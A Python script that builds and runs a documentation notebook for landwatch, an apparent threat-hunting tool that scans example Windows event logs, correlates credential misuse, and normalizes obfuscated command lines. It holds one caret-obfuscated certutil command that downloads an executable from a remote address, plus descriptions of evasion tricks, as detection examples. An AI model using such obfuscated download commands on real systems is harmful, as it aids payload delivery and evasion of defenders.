#!/usr/bin/env python3
"""Writes docs/notebooks/hunt.ipynb and executes it in place, so that the
committed notebook carries its outputs (tables, the timeline plot) and reads
on GitHub without a kernel.

Needs the Python package installed with the notebook tools (nbformat,
nbclient, ipykernel, pandas, matplotlib), as in docs/python.md:

    target/pyenv/bin/python tools/make_hunt_notebook.py

Edit the cells here, not in the .ipynb, and commit both. The cell ids are
fixed and no timing is recorded, so a regenerated notebook differs from the
committed one only where the cells or their outputs changed.
bindings-python/tests/test_notebook.py executes the notebook again (a copy,
in memory) so that it cannot fall behind the package.
"""

import sys
from pathlib import Path

import nbformat
from nbclient import NotebookClient
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

ROOT = Path(__file__).resolve().parents[1]
NOTEBOOK = ROOT / "docs" / "notebooks" / "hunt.ipynb"

# (kind, source): "md" for markdown, "py" for code.
CELLS = [
    (
        "md",
        r"""
# Hunting with landwatch in a notebook

This notebook takes two example event streams that ship with landwatch, scans
them with the built-in rule pack (and, when it is present, SigmaHQ's process
creation rules), and walks through what an analyst does next: read the alerts,
count them, put them on a timeline per host, open a correlated detection to
see the events behind it, and look at an obfuscated command line the way the
rules see it.

- `examples/msp-intrusion.jsonl`: one day at Contoso Dental, a customer of the
  managed service provider Northwind IT. From 13:07 UTC the provider's stolen
  admin credentials are used to dump credentials from the domain controller
  and stage them out.
- `examples/msp-credentials.jsonl`: three days at the provider and two of its
  customers; on the third, the provider's admin credentials are stolen and
  used through both customers and back.

`examples/README.md` tells both stories in full. The test suite runs this
notebook (`bindings-python/tests/test_notebook.py`), so what you read here is
what the package does today.
""",
    ),
    (
        "py",
        r"""
%matplotlib inline
import json
from pathlib import Path

import matplotlib.dates as mdates
import matplotlib.pyplot as plt
import pandas as pd

import landwatch

pd.set_option("display.max_colwidth", 120)
pd.set_option("display.width", 200)


def repo_root(start: Path) -> Path:
    # The notebook runs from docs/notebooks (Jupyter, the tests) or from
    # anywhere else in the checkout: walk up until examples/ is there.
    for folder in [start, *start.parents]:
        if (folder / "examples" / "msp-intrusion.jsonl").is_file():
            return folder
    raise FileNotFoundError(f"no landwatch checkout (examples/) above {start}")


ROOT = repo_root(Path.cwd().resolve())
EXAMPLES = ROOT / "examples"
# Real public data (SigmaHQ's rules) lives beside the checkout, not in it.
CORPUS = ROOT.parent / "shared" / "corpus"
print("built-in pack:", len(landwatch.builtin()), "rules and correlations")
""",
    ),
    (
        "md",
        r"""
## 1. Load the events

Each line of the files is one event as JSON: Sysmon process creations
(`EventID` 1) and Windows Security events (4624 logons, 4648 explicit
credentials, 4688 process creations...) side by side. Read into pandas, every
field becomes a column; a field an event does not have is a missing value,
and landwatch reads a missing value as an absent field, never as the text
`nan`.

The lines are read with `json.loads` so that the values stay as the log wrote
them (`pd.read_json` would turn date-like columns into timestamps, which
landwatch would also read, but then the frame no longer shows the raw text).
""",
    ),
    (
        "py",
        r"""
def read_events(path: Path) -> pd.DataFrame:
    with open(path, encoding="utf-8") as f:
        return pd.DataFrame([json.loads(line) for line in f if line.strip()])


intrusion = read_events(EXAMPLES / "msp-intrusion.jsonl")
credentials = read_events(EXAMPLES / "msp-credentials.jsonl")
print("msp-intrusion:  ", intrusion.shape[0], "events,", intrusion.shape[1], "columns")
print("msp-credentials:", credentials.shape[0], "events,", credentials.shape[1], "columns")
intrusion["EventID"].value_counts()
""",
    ),
    (
        "md",
        r"""
## 2. Scan with the built-in pack

`landwatch.scan_dataframe(df)` scans every row as one event, in frame order,
as one stream (so correlations run across the rows), and returns one row per
detection. `row` is the index label of the row that made the detection; for a
correlation, `events` lists the rows of its contributing events.

`attrs["landwatch"]` says how many rows were scanned, which ones the scanner
rejected (and why), and the scanner's counters. Check it before trusting an
empty result. `late` counts events that came more than the scanner's lateness
(60 s) out of time order, which correlations skip: a SIEM export sorted
newest first loses nearly all of them, so sort such a frame by time before
scanning it.
""",
    ),
    (
        "py",
        r"""
detections = landwatch.scan_dataframe(intrusion)
info = detections.attrs["landwatch"]
print("rows scanned:", info["rows"], "| rejected:", len(info["rejected"]), "| detections:", len(detections))
print({k: info["stats"][k] for k in ("events", "rejected", "detections", "no_time", "late")})
""",
    ),
    (
        "md",
        r"""
### The alert view

Level `informational` is enrichment (facts about the host or the activity
that correlations and later triage use), never an alert: leave it out of the
alert queue. Sorting by `time` matters because correlated detections come out
when the scanner has waited out its lateness (60 s by default), that is after
later stateless ones.

In Jupyter the frame `scan_dataframe` returns shows as a compact table with
the level coloured and the evidence (which field matched, and what) spelled
out.
""",
    ),
    (
        "py",
        r"""
print("informational (enrichment, not alerts):", (detections["level"] == "informational").sum())
alerts = detections[detections["level"] != "informational"].sort_values("time")
alerts[["time", "host", "user", "level", "rule", "title", "evidence", "row"]].head(14)
""",
    ),
    (
        "md",
        r"""
### Counts per rule and level

The ordinary work of the day (staff, the provider's RMM agent, the copier,
the backup task) raises no alert: the three informational detections left out
above are `disc.systeminfo` on the RMM agent's `systeminfo /fo csv`. Every
alert below belongs to the intrusion. `exec.psexesvc_child` counts once per
command the intruder ran through PsExec on the domain controller.
""",
    ),
    (
        "py",
        r"""
LEVELS = ["critical", "high", "medium", "low"]


def per_rule(frame: pd.DataFrame) -> pd.DataFrame:
    table = pd.crosstab(frame["rule"], frame["level"]).reindex(columns=LEVELS, fill_value=0)
    return table.sort_values(LEVELS, ascending=False)


print(alerts["level"].value_counts().reindex(LEVELS, fill_value=0).to_dict())
per_rule(alerts)
""",
    ),
    (
        "md",
        r"""
## 3. Credential misuse across zones

The credential correlations look at many events together: hosts per account,
accounts per address, a logon and what follows it, values new for an account.
Two of them also need to know the network: `corr.credentials_cross_zones`
(one account's credentials used from two zones' addresses in a working day)
and `corr.offhours_admin_logon` (business hours). `examples/zones.toml` gives
the provider's and each customer's address ranges and the offices' hours;
pass it as `zones=` (a path, or the TOML text itself). Without it those two
correlations stay silent.

The `landwatch` accessor on a pandas frame does the same as `scan_dataframe`.
""",
    ),
    (
        "py",
        r"""
zones = str(EXAMPLES / "zones.toml")
cred_detections = credentials.landwatch.scan(zones=zones)
cred_alerts = cred_detections[cred_detections["level"] != "informational"].sort_values("time")
print("rows scanned:", cred_detections.attrs["landwatch"]["rows"], "| alerts:", len(cred_alerts))
print(cred_alerts["level"].value_counts().reindex(LEVELS, fill_value=0).to_dict())

without_zones = credentials.landwatch.scan()
only_with_zones = sorted(set(cred_alerts["rule"]) - set(without_zones["rule"]))
print("fire only with zones:", only_with_zones)
cred_alerts[cred_alerts["kind"] == "correlation"]["rule"].value_counts()
""",
    ),
    (
        "md",
        r"""
## 4. A timeline per host

One marker per alert, one row per host, the colour the level. In the intrusion
everything happens within twenty minutes on the file server and the domain
controller; in the credentials stream the third day's attack moves from the
provider's jump host through Fabrikam's hosts, then Contoso's, and back into
the provider's file server in the evening.
""",
    ),
    (
        "py",
        r"""
COLOURS = {"critical": "#a50e0e", "high": "#e8590c", "medium": "#f2c200", "low": "#2f9e44"}


def timeline(ax, frame: pd.DataFrame, title: str, time_format: str) -> None:
    short = frame["host"].fillna("?").str.split(".").str[0]
    hosts = sorted(short.unique(), reverse=True)
    y = short.map({h: i for i, h in enumerate(hosts)})
    for level in reversed(LEVELS):
        mask = frame["level"] == level
        if mask.any():
            ax.scatter(frame.loc[mask, "time"], y[mask], s=36, alpha=0.8,
                       color=COLOURS[level], edgecolors="black", linewidths=0.4, label=level)
    ax.set_yticks(range(len(hosts)), hosts)
    ax.set_ylim(-0.7, len(hosts) - 0.3)
    ax.xaxis.set_major_formatter(mdates.DateFormatter(time_format))
    ax.set_title(title)
    ax.set_xlabel("time (UTC)")
    ax.grid(axis="x", alpha=0.3)


fig, (top, bottom) = plt.subplots(
    2, 1, figsize=(10, 9), dpi=80, gridspec_kw={"height_ratios": [1, 3]}, layout="constrained"
)
timeline(top, alerts, "msp-intrusion.jsonl: alerts per host", "%H:%M")
timeline(bottom, cred_alerts, "msp-credentials.jsonl (with zones): alerts per host", "%d %b %H:%M")
handles, labels = bottom.get_legend_handles_labels()
bottom.legend(handles[::-1], labels[::-1], title="level", loc="upper right")
plt.show()
""",
    ),
    (
        "md",
        r"""
## 5. What made a correlated detection

A correlated detection is reported at the event that completed it (its `row`);
`events` lists the rows of the events that made it, latest last (at most 32
by default; the scanner's `max_events` sets it). Since the rows are the input
frame's index labels, `df.loc[events]` brings back the raw events.

In the intrusion, `corr.logon_then_lotl_tool` is a remote desktop logon to the
file server by `CONTOSO\nw-admin` followed by `whoami /all` on that host by
that account.
""",
    ),
    (
        "py",
        r"""
def contributing(events: pd.DataFrame, detection: pd.Series, columns: list) -> pd.DataFrame:
    # The detection's contributing events, with the columns they have.
    rows = events.loc[detection["events"], columns]
    return rows.dropna(axis="columns", how="all")


correlations = alerts[alerts["kind"] == "correlation"]
hit = correlations.iloc[0]
print(hit["rule"], "|", hit["title"])
print("group:", hit["group"], "| completed by row", hit["row"])
contributing(intrusion, hit, ["TimeCreated", "UtcTime", "EventID", "Computer", "TargetUserName",
                              "LogonType", "IpAddress", "User", "CommandLine"])
""",
    ),
    (
        "md",
        r"""
In the credentials stream, `corr.credentials_cross_zones` fires on the
evening's NTLM logon by `NORTHWIND\nw-admin` to the provider's file server
from an address in Contoso's range (`customer-a`), the same day the real
engineer logged on by remote desktop from the provider's own network.
""",
    ),
    (
        "py",
        r"""
hit = cred_alerts[cred_alerts["rule"] == "corr.credentials_cross_zones"].iloc[0]
print(hit["rule"], "|", hit["title"])
print("group:", hit["group"])
contributing(credentials, hit, ["TimeCreated", "EventID", "Computer", "TargetDomainName", "TargetUserName",
                                "LogonType", "AuthenticationPackageName", "IpAddress", "WorkstationName"])
""",
    ),
    (
        "md",
        r"""
## 6. The same events against SigmaHQ's rules

`landwatch.load(sigma=[...], builtin=True)` compiles a directory of Sigma
rules together with the built-in pack into one rule set. Sigma documents it
cannot take are listed in `rules.rejected` and do not fail the load. The rule
id of a Sigma rule is `sigma.` and its UUID, so read the `title`.

This cell reads `rules/windows/process_creation` of the SigmaHQ checkout in
`../shared/corpus` next to the repository; without it, the cell says so and
the rest of the notebook runs on.
""",
    ),
    (
        "py",
        r"""
SIGMA_DIR = CORPUS / "sigma" / "rules" / "windows" / "process_creation"
sigma_alerts = None
if not SIGMA_DIR.is_dir():
    print(f"Skipped: no Sigma rules at ../shared/corpus/sigma/rules/windows/process_creation "
          f"(looked in {SIGMA_DIR}); the built-in pack's results above stand alone.")
else:
    rules = landwatch.load(sigma=[SIGMA_DIR], builtin=True)
    print(len(rules), "rules:", rules.sigma_loaded, "from Sigma,", len(rules.rejected), "Sigma documents rejected")
    both = landwatch.scan_dataframe(intrusion, rules)
    both = both[both["level"] != "informational"]
    sigma_alerts = both[both["rule"].str.startswith("sigma.")]
    print(len(sigma_alerts), "Sigma alerts")
    display(pd.crosstab(sigma_alerts["title"], sigma_alerts["level"])
            .reindex(columns=LEVELS, fill_value=0).sort_values(LEVELS, ascending=False).head(15))
""",
    ),
    (
        "md",
        r"""
SigmaHQ's rules are broad on purpose: many low and medium ones describe
activity that administrators also do. Split by account, the alerts on the
intruder's `CONTOSO\nw-admin` against everyone else's show how much of the
Sigma queue, on this estate, is ordinary work: the provider's RMM agent
(most of it), staff mapping the shared drive at logon, the helpdesk
engineer. That is tuning work (filters for the agent, levels), not a reason
to drop the rules.
""",
    ),
    (
        "py",
        r"""
if sigma_alerts is None:
    print("Skipped: no Sigma rules (see above).")
else:
    intruder = "CONTOSO\\nw-admin"
    split = pd.DataFrame({
        "built-in pack": alerts["user"].eq(intruder).value_counts(),
        "SigmaHQ": sigma_alerts["user"].eq(intruder).value_counts(),
    }).rename(index={True: intruder, False: "everyone else"}).fillna(0).astype(int)
    display(split)
""",
    ),
    (
        "md",
        r"""
## 7. Obfuscated command lines, as the rules read them

Attackers break up tool names and switches to slip past string matching:
carets (`c^e^r^t^u^t^i^l`), quotes inside words (`"wev"tutil`), `/` for `-`,
dash look-alikes, odd case. Rules on `CommandLine` match its **normal
form**: carets removed, quotes removed (except a pair around a whole argument
that holds a space), whitespace runs collapsed, machine-wide environment
variables expanded, `/option` written `-option`, lowercase
([docs/normal-form.md](../normal-form.md) has every step).
`landwatch.normalize_command_line` gives it for one string;
`series.landwatch.normalize()` for a column (missing values stay missing).
Putting the normal form next to the raw text shows an analyst what the rule
saw.
""",
    ),
    (
        "py",
        r"""
print(landwatch.normalize_command_line('c^ertutil "-url"cache -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe'))
""",
    ),
    (
        "py",
        r"""
obfuscated = alerts.loc[alerts["rule"].isin(["lotl.certutil_download", "evade.wevtutil_clear_log"]), "row"].unique()
view = intrusion.loc[obfuscated, ["Computer", "CommandLine"]]
view.assign(normal_form=view["CommandLine"].landwatch.normalize())
""",
    ),
    (
        "md",
        r"""
PowerShell's `-EncodedCommand` (`-enc`, `-e`...) hides the script as base64
of UTF-16. `landwatch.decode_command_line` gives the decoded payload (or
`None` when there is none), and `series.landwatch.decode()` does it for a
column (given as decoded, not normalized); the built-in pack's
`ps.iex_in_decoded` matches on that text.
""",
    ),
    (
        "py",
        r"""
encoded_row = alerts.loc[alerts["rule"] == "ps.encoded_command", "row"].iloc[0]
command = intrusion.loc[encoded_row, "CommandLine"]
print(command[:60] + "...")
print(landwatch.decode_command_line(command))

decoded = intrusion["CommandLine"].landwatch.decode().dropna()
intrusion.loc[decoded.index, ["Computer", "User"]].assign(decoded=decoded)
""",
    ),
    (
        "md",
        r"""
## Where next

- [docs/python.md](../python.md): the whole Python API (rules, scanners,
  files, EVTX, saving correlation state) and how frames are read.
- For a live stream, keep one `Scanner` (`rules.scanner(zones=...)`) and pass
  it as `rules=` to `scan_dataframe(batch, scanner, flush=False)` batch after
  batch: correlations then run across batches.
- [docs/correlation.md](../correlation.md) and
  [docs/normal-form.md](../normal-form.md) say how correlations and the
  command-line normal form work.
""",
    ),
]


def build() -> nbformat.NotebookNode:
    nb = new_notebook()
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nb.metadata["language_info"] = {"name": "python"}
    for i, (kind, source) in enumerate(CELLS, start=1):
        text = source.strip("\n")
        cell = new_markdown_cell(text) if kind == "md" else new_code_cell(text)
        cell["id"] = f"hunt-{i:02d}"
        nb.cells.append(cell)
    return nb


def main() -> int:
    nb = build()
    NOTEBOOK.parent.mkdir(parents=True, exist_ok=True)  # the kernel's cwd
    client = NotebookClient(
        nb,
        kernel_name="python3",
        timeout=120,
        record_timing=False,
        resources={"metadata": {"path": str(NOTEBOOK.parent)}},
    )
    client.execute()
    # The kernel's own language_info (version included) would change with
    # every interpreter; keep the name only.
    nb.metadata["language_info"] = {"name": "python"}
    nbformat.write(nb, str(NOTEBOOK))
    print(f"wrote {NOTEBOOK.relative_to(ROOT)} ({NOTEBOOK.stat().st_size:,} bytes)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
